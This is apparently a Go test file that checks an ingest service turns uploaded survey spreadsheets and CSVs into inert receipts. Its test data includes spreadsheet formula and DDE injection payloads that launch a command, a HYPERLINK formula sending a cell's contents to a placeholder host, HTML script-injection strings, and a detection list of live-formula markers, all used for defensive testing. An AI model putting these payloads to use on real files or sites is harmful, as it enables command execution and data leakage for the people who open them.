package ingest

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// The heavy hostile files (bombs, gigabytes) stand in ingest/campaign, each in
// a process of its own. Here is what a file may carry into what goes back.

// formulas are texts that a spreadsheet would run.
var formulas = []string{`=HYPERLINK("http://x.example/?"&A1,"张三")`, `=cmd|' /C calc'!A0`, "+1+cmd|' /C calc'!A0", `-2+3+cmd|' /C calc'!A0`, "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", `=DDE("cmd";"/C calc";"x")`}

// TestNothingRunsInWhatGoesBack: whatever a city wrote, in a title, a header,
// a name of a sheet, a cell or the name of its file, stands in the receipt as
// text.
func TestNothingRunsInWhatGoesBack(t *testing.T) {
	for i, evil := range formulas {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			d := newDesk(t)
			content := workbook(t, func(f *excelize.File) error {
				for cell, text := range map[string]string{
					"A1": "濮阳市2024年9月述职满意度测评", "B1": evil, "A2": "姓名", "B2": "述职日期", "C2": "满意", "D2": "不满意", "E2": evil, "F2": "备注",
					"A3": "张三", "B3": "9月9日", "C3": evil, "D3": "2", "E3": evil, "F3": evil,
					"A4": "李四", "B4": evil, "C4": "45", "D4": "2", "E4": evil, "F4": evil, "A5": evil, "B5": "9月9日", "C5": "45", "D5": "2",
				} {
					if err := f.SetCellStr("Sheet1", cell, text); err != nil {
						return err
					}
				}
				return nil
			})
			o := d.send(fmt.Sprintf("=cmd%d.xlsx", i), content, Hints{})
			if o.Status == Refused || o.Quarantined == 0 {
				t.Fatalf("%+v", o)
			}
			d.inert(t)
		})
	}
}

// inert looks through every workbook and page of the workspace for anything
// that runs.
func (d *desk) inert(t *testing.T) {
	t.Helper()
	workbooks := 0
	for path, raw := range d.tree() {
		switch filepath.Ext(path) {
		case ".xlsx":
			workbooks++
			archive, err := zip.NewReader(strings.NewReader(raw), int64(len(raw)))
			if err != nil {
				t.Fatal(err)
			}
			for _, f := range archive.File {
				part, err := f.Open()
				if err != nil {
					t.Fatal(err)
				}
				text, err := io.ReadAll(part)
				if err != nil {
					t.Fatal(err)
				}
				for _, running := range []string{"<f>", "<f ", "ddeLink", "externalLink", "TargetMode=\"External\""} {
					if strings.HasPrefix(f.Name, "xl/") && bytes.Contains(text, []byte(running)) {
						t.Errorf("%s!%s holds %s", path, f.Name, running)
					}
				}
			}
		case ".html":
			if strings.Contains(raw, "<script>alert") || strings.Contains(raw, "<img src=x") {
				t.Errorf("%s holds what a city wrote as it was", path)
			}
		}
	}
	if workbooks == 0 {
		t.Error("no receipt")
	}
}

// TestMarksNobodySees: control characters and marks of direction in names and
// places are taken off, so that two spellings are one deputy.
func TestMarksNobodySees(t *testing.T) {
	d := newDesk(t)
	o := d.send("\u202e测评.csv", votes(puyang9, "\u202e张三\u202c,9月9日,50,50,50,45,3,2,0", "李\u200b四,9月9日,50,50,50,45,3,2,0", "王\x07五,\u200e9月9日,50,50,50,4\u200f5,3,2,0", "赵\u00a0六,9月9日,50,50,50,45,3,2,0"), Hints{})
	if o.Accepted != 4 {
		t.Fatalf("%+v", o)
	}
	var names []string
	for _, r := range d.accepted(o) {
		names = append(names, r.values["deputy_name"])
	}
	if got := strings.Join(names, " "); got != "张三 李四 王五 赵六" {
		t.Errorf("%q", got)
	}
}

// TestMarkupIsText: what looks like a page stays text in the letter.
func TestMarkupIsText(t *testing.T) {
	d := newDesk(t)
	for i, evil := range []string{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</w:t><w:instrText>", "]]>", "&lt;b&gt;", "\x00\x01"} {
		o := d.send(fmt.Sprintf("%d<script>alert(1).csv", i), votes(puyang9, "张三,9月9日,50,50,50,45,3,2,0", "李四,9月9日,50,50,50,"+evil+",3,2,0"), Hints{})
		if i == 0 && o.Quarantined != 1 {
			t.Fatalf("%+v", o)
		}
	}
	d.inert(t)
}
